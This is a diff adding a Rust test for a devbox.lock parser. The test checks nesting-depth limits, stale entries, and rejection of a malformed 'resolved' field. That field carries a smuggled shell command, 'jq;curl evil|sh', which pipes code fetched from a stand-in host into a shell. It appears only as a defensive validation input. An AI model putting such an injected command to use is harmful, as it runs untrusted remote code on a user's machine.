@@ -522,3 +522,31 @@ fn non_utf8_files_are_bad_input_with_position() {
         report.render()
     );
 }
+
+#[test]
+fn devbox_locks_follow_the_same_rules_and_bounds() {
+    let bad = |text: &str| {
+        let report = Report::from_error(&devbox::parse_devbox(text, "devbox.lock").unwrap_err());
+        assert_eq!(report.exit_code, EXIT_BAD_INPUT);
+        report.render()
+    };
+    let deep = format!("{}{}", "{\"a\":".repeat(30_000), "}".repeat(30_000));
+    let report = bad(&deep);
+    assert!(
+        report.contains("devbox.lock:1:321: the document nests deeper than 64 levels"),
+        "{report}"
+    );
+    let code = format!(
+        r#"{{"lockfile_version": "1", "packages": {{"jq@1": {{"version": "1",
+        "resolved": "github:NixOS/nixpkgs/{REV}#jq;curl evil|sh"}}}}}}"#
+    );
+    let report = bad(&code);
+    assert!(
+        report.contains("package `jq@1`: `resolved` must be")
+            && report.contains("#jq;curl evil|sh`"),
+        "{report}"
+    );
+    // An entry Devbox never resolved is stale, not invalid.
+    let stale = r#"{"lockfile_version": "1", "packages": {"poetry": {"plugin_version": "0.0.4"}}}"#;
+    assert!(devbox::parse_devbox(stale, "devbox.lock").is_ok());
+}
